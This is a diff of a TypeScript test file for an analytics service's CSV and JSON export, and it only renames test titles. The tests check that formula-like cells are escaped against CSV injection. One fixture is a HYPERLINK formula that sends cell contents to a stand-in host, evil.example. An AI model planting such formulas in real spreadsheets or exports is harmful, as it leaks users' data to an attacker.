@@ -11,7 +11,7 @@ import { createAnalyticsSite } from "../../support/analytics";
 const ENDPOINTS = ["uptime", "latency", "incidents", "requests"] as const;
 
 describe("CSV", () => {
-  test("read back by a parser is what was written, whatever that is", () => {
+  test("CSV is read back by a parser exactly as it was written", () => {
     // A formula gets an apostrophe: told by itself below.
     const text = fc
       .string({ unit: "grapheme" })
@@ -29,7 +29,7 @@ describe("CSV", () => {
     expect(toCsv(["a", "b"], [[null, -1.5]])).toBe("a,b\r\n,-1.5\r\n");
   });
 
-  test("holds nothing that a spreadsheet would take for a formula", () => {
+  test("CSV escapes texts that a spreadsheet would read as formulas", () => {
     const formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1", "＝1", '="a"'];
     const [, ...lines] = parse(
       toCsv(
@@ -42,8 +42,8 @@ describe("CSV", () => {
   });
 });
 
-describe("an answer", () => {
-  test("is JSON or CSV by what Accept prefers, with the same lines", async () => {
+describe("analytics as JSON or CSV", () => {
+  test("analytics are JSON or CSV according to Accept, with the same rows", async () => {
     await using site = await createAnalyticsSite();
     await site.app.clock.advance(HOUR_MS);
     for (const name of ENDPOINTS) {
@@ -80,7 +80,7 @@ describe("an answer", () => {
     }
   });
 
-  test("neutralises the names that people chose", async () => {
+  test("names in CSV are escaped, and unchanged in JSON", async () => {
     await using site = await createAnalyticsSite();
     const { ctx } = site.app;
     const name = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
@@ -99,7 +99,7 @@ describe("an answer", () => {
     expect((await site.read("uptime?page=acme")).body.data[2].name).toBe(name);
   });
 
-  test("that did not change is not sent again, in each form", async () => {
+  test("the entity tag of unchanged analytics is valid for its own form only", async () => {
     await using site = await createAnalyticsSite();
     const past = "incidents?from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00Z";
     const first = await site.read(past);
